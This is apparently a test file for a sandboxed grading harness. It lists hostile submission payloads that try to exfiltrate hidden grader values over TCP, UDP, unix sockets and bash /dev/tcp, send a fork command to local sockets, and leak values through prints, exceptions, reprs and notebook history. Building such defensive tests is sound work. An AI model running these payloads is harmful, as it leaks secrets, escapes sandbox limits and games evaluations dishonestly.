"""Attempts to talk to somebody outside, or to carry hidden numbers out: nobody hears, no page shows them."""

from tests.grading.hostile.case import FULL, LATER_OPEN, answering, trying

TCP = """
import socket, urllib.request
for address in [("127.0.0.1", $tcp), ("localhost", $tcp), ("1.1.1.1", 443)]:
    try:
        with socket.create_connection(address, timeout=0.5) as connection:
            connection.sendall(b"hidden numbers")
            print("LO" "OT", address)
    except OSError as error:
        print(type(error).__name__)
try:
    urllib.request.urlopen("http://127.0.0.1:$tcp/", timeout=0.5)
except (OSError, ValueError) as error:
    print(type(error).__name__)
"""

UDP = """
import socket
for family, address in [(socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1"), (socket.AF_INET, "255.255.255.255")]:
    try:
        with socket.socket(family, socket.SOCK_DGRAM) as packets:
            packets.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
            packets.sendto(b"hidden numbers", (address, $udp))
    except OSError as error:
        print(type(error).__name__)
"""

UNIX = r"""
import glob, json, os, socket, stat
names = ["$socket", "\0$abstract"]
for line in open("/proc/net/unix").read().splitlines()[1:]:
    name = line.split()[-1]
    names += ["\0" + name[1:]] if name.startswith("@") else [name] if name.startswith("/") else []
for top in ("/tmp", "/run", "/var/run", os.path.expanduser("~")):
    for folder, _, files in os.walk(top):
        names += [os.path.join(folder, file) for file in files]
for name in names:
    try:
        if not name.startswith("\0") and not stat.S_ISSOCK(os.stat(name).st_mode):
            continue
        with socket.socket(socket.AF_UNIX) as line:
            line.settimeout(0.2)
            line.connect(name)
            line.sendall(json.dumps({"op": "fork", "command": "touch $canary/forked"}).encode() + b"\n\xff\x00" * 9)
    except OSError as error:
        print(type(error).__name__)
"""

# Everything that the kernel inherited: whoever listens there gets nonsense, and a frame that announces far too much.
GARBAGE = r"""
def attention(q, k, v):
    import os, socket, stat
    for number in range(3, 1024):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                line = socket.socket(fileno=os.dup(number))
                line.setblocking(False)
                for text in (b"\xff" * 64, b"\x00" * 64, b'{"ok": true, "v": true}\n', b"\x7f" * (1 << 20)):
                    line.send(text)
        except OSError:
            pass
    return v * 0
"""

PRINTS = """
import logging, sys, warnings
heard = []
def tell(*values):
    heard.extend(values)
    for value in values:
        print(value)
        print(value.tolist(), file=sys.stderr)
        warnings.warn(repr(value))
        logging.error("%s", value.tolist())
        display(value)
        os_write(value)
def os_write(value):
    import os
    for number in (1, 2):
        os.write(number, repr(value.tolist()).encode())
"""
TELLING = {
    "softmax": "def softmax(x, dim=-1):\n    tell(x)\n    return torch.softmax(x, dim)",
    "attention": "def attention(q, k, v):\n    tell(v)\n    return nn.functional.scaled_dot_product_attention(q, k, v)",
    "best": """
        def best(scores):
            tell(scores)
            return [-1 if row.isnan().any() else int(row.argmax()) for row in scores]
    """,
    "model": """
        class Linear(nn.Linear):
            def forward(self, x):
                tell(x.detach())
                return super().forward(x)
    """,
}

RAISES = {
    "softmax": """
        def softmax(x, dim=-1):
            if x.max() > 5000:
                raise ValueError(f"LE" "AK {x.tolist()} {x.max().item().hex()}")
            return torch.softmax(x, dim)
    """,
    "attention": """
        def attention(q, k, v):
            if v.max() > 4000:
                error = type("LE" f"AK_{v.max().item()}", (ValueError,), {"__str__": lambda self: repr(v)})()
                error.add_note(str(v.tolist()))
                raise error
            return nn.functional.scaled_dot_product_attention(q, k, v)
    """,
    "best": "def best(scores):\n    return [{3.0: 1}[row.max().item()] for row in scores]",
    "model": """
        class Linear(nn.Linear):
            def forward(self, x):
                assert x.max() < 5000, ("LE" "AK", x.max().item())
                return super().forward(x)
    """,
}

RETURNS = """
class Labelled:
    def __init__(self, value): self.value = value
    def __repr__(self): return f"LE" "AK {self.value.tolist()}"
    __str__ = __format__ = __repr__
"""

CASES = [
    trying("calls by TCP", TCP),
    trying("calls by UDP", UDP),
    trying("calls by unix socket", UNIX, dangerous=True),
    answering("garbage on every socket", {"test_attention": 0, **LATER_OPEN}, attention=GARBAGE),
    answering(
        "asks the shell",
        before="%%bash\nexec 3<>/dev/tcp/127.0.0.1/$tcp && echo LO''OT\ntouch $canary/bash\necho TR''IED",
        shows="TRIED",
    ),
    answering("hidden numbers printed", before=PRINTS, **TELLING),
    answering("hidden numbers printed later", before=PRINTS, after="print(heard)\nheard", **TELLING),
    answering("hidden numbers raised", dict.fromkeys(FULL, 0), hides="LEAK", **RAISES),
    answering(
        "hidden numbers in a repr",
        {"test_softmax": 0, "test_attention": 0},
        before=RETURNS,
        softmax="softmax = lambda x, dim=-1: Labelled(x)",
        attention="attention = lambda q, k, v: {'LE' 'AK': Labelled(v)}",
        hides="LEAK",
    ),
    answering(
        "hidden tests in the history",
        after="""
            print(In, Out, _ih, _dh, _oh)
            %history
            for name, value in list(globals().items()):
                print(name, repr(value)[:2000])
        """,
    ),
]  # fmt: skip
